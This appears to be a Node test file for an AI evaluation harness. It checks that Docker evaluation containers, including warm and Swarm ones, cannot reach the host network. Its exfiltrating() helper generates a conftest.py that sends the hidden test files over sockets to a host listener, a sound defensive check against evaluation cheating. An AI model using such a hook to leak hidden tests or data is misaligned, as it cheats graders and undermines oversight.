// Evaluation containers have no network unless asked for (docs/reference/containers.md, "No
// network"): a conftest.py in the state under test that connects to a listener on the host (the
// Docker bridge's gateway, and every other address of the host) and sends the hidden tests is
// graded normally, and the listener receives nothing, for a container started for the evaluation
// and for one started ahead. The same file with `network: 'bridge'` does reach the listener: the
// check can fail.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createServer, type Server } from 'node:net';
import { mkdtempSync, rmSync } from 'node:fs';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import type Docker from 'dockerode';
import { testCommandFor } from '../../src/core/evaluation/script';
import { connectDocker, evaluateState, WarmContainer, type ContainerRunOptions } from '../../src/infra/docker';
import { SWARM_OFFLINE_NETWORK, swarmTaskNetwork } from '../../src/infra/docker/swarm/offlineNetwork';
import type { RepoPathChoice } from '../../src/core/evaluation/stepSpec';
import { createToyRepo, FIX, TEST_FILES, type ToyRepo } from '../fixtures/evaluation/toyRepo';

const IMAGE = 'chainlens/base:bookworm';
let docker: Docker;
let repo: ToyRepo;
let server: Server;
let port = 0;
const received: string[] = [];
const logDir = mkdtempSync(join(tmpdir(), 'chainlens-nonet-logs-'));
let runs = 0;

/** Every IPv4 address of the host: the bridge gateway (docker0) first, loopback included. */
function hostAddresses(): string[] {
  const all = Object.entries(networkInterfaces()).flatMap(([name, addrs]) =>
    (addrs ?? []).filter((a) => a.family === 'IPv4').map((a) => ({ name, address: a.address })),
  );
  return all.sort((a, b) => Number(b.name === 'docker0') - Number(a.name === 'docker0')).map((a) => a.address);
}

/** A conftest.py that sends every test file it can read to each host address, and says what it reached. */
function exfiltrating(): string {
  return [
    'import glob, socket',
    '',
    'OUTCOMES = []',
    `for host in ${JSON.stringify(hostAddresses())}:`,
    '    try:',
    `        s = socket.create_connection((host, ${port}), timeout=2)`,
    '        for f in glob.glob("tests/*.py"):',
    '            s.sendall(open(f, "rb").read())',
    '        s.close()',
    '        OUTCOMES.append("EXFIL reached " + host)',
    '    except OSError as e:',
    '        OUTCOMES.append("EXFIL unreachable " + host + " " + type(e).__name__)',
    '',
    '',
    '# pytest captures what collection prints; its summary is shown.',
    'def pytest_terminal_summary(terminalreporter):',
    '    for line in OUTCOMES:',
    '        terminalreporter.write_line(line)',
    '',
  ].join('\n');
}

function evaluate(overrides: Partial<ContainerRunOptions> = {}, repoPath: RepoPathChoice = { kind: 'detect' }) {
  const runId = `nonet-test-${process.pid}-${++runs}`;
  const testPatch = repo.diffFor(TEST_FILES);
  return evaluateState(
    {
      image: IMAGE,
      baseCommit: repo.baseCommit,
      repoPath,
      testPatches: [testPatch],
      testCmd: testCommandFor({ repo: 'toy/calc', testPatches: [testPatch] }),
      scriptShape: 'python',
      harness: 'v5',
    },
    { localRepo: repo.dir, stateDiff: repo.diffFor({ ...FIX, 'conftest.py': exfiltrating() }) },
    { timeoutS: 120, runId, logPath: join(logDir, runId, 'test_output.txt'), docker, ...overrides },
  );
}

before(async () => {
  docker = await connectDocker();
  repo = createToyRepo();
  server = createServer((socket) => {
    let data = '';
    socket.on('data', (d) => (data += d.toString()));
    socket.on('close', () => received.push(data));
  });
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
  port = (server.address() as { port: number }).port;
});

let swarmInitialised = false;
const swarmState = () =>
  execFileSync('docker', ['info', '--format', '{{.Swarm.LocalNodeState}}'], { encoding: 'utf8' }).trim();

after(() => {
  // Left only if this file made it (swarmBatch.test.ts does the same): other tests share the engine.
  if (swarmInitialised) execFileSync('docker', ['swarm', 'leave', '--force'], { stdio: 'ignore' });
  server.close();
  rmSync(logDir, { recursive: true, force: true });
});

function assertGradedOffline(r: Awaited<ReturnType<typeof evaluate>>): void {
  assert.equal(r.environmentError, null, r.log);
  assert.equal(r.exitCode, 0, r.log);
  assert.match(r.log, /^PASSED tests\/test_calc.py::test_add$/m);
  assert.match(r.log, /EXFIL unreachable/);
  assert.doesNotMatch(r.log, /EXFIL reached/);
  assert.deepEqual(received, [], 'the listener on the host received the tests');
}

test('a container made for the evaluation has no network: the test file reaches no listener on the host', async () => {
  assertGradedOffline(await evaluate());
});

test('a container started ahead has no network either', async () => {
  const warm = WarmContainer.start(docker, {
    image: IMAGE,
    runId: `nonet-warm-${process.pid}`,
    name: `chainlens-nonet-warm-${process.pid}`,
  });
  try {
    assertGradedOffline(await evaluate({ warm }, { kind: 'copy-in' }));
  } finally {
    await warm.discard();
  }
});

test('network: bridge, asked for explicitly, does reach the host (the check above can fail)', async () => {
  const r = await evaluate({ network: 'bridge' });
  assert.equal(r.exitCode, 0, r.log);
  assert.match(r.log, /EXFIL reached 172\.|EXFIL reached/);
  await new Promise((resolve) => setTimeout(resolve, 200));
  assert.ok(
    received.some((d) => d.includes('def test_add')),
    'the listener got the hidden test file',
  );
  received.length = 0;
});

test('a Swarm job service runs on the internal overlay network chainlens-offline: it reaches nothing either', async () => {
  if (swarmState() !== 'active') {
    execFileSync('docker', ['swarm', 'init', '--advertise-addr', '127.0.0.1'], { stdio: 'ignore' });
    swarmInitialised = true;
  }
  const r = await evaluate({ engine: 'swarm' });
  assertGradedOffline(r);
  const net = await docker.getNetwork('chainlens-offline').inspect();
  assert.equal(net.Internal, true);
});

test('workers asking for the offline network at once, on a swarm without it, all get it (the managers answer the race with a 500)', async (t) => {
  // Only on a swarm this file made: removing the network on a shared one would pull it from under others.
  if (!swarmInitialised) return t.skip('the engine was in swarm mode already when this file started');
  await docker.getNetwork(SWARM_OFFLINE_NETWORK).remove();
  const got = await Promise.allSettled([1, 2, 3, 4].map(() => swarmTaskNetwork(docker, undefined)));
  assert.deepEqual(
    got.map((g) => (g.status === 'fulfilled' ? g.value : String(g.reason))),
    Array(4).fill(SWARM_OFFLINE_NETWORK),
  );
  assert.equal((await docker.getNetwork(SWARM_OFFLINE_NETWORK).inspect()).Internal, true);
});
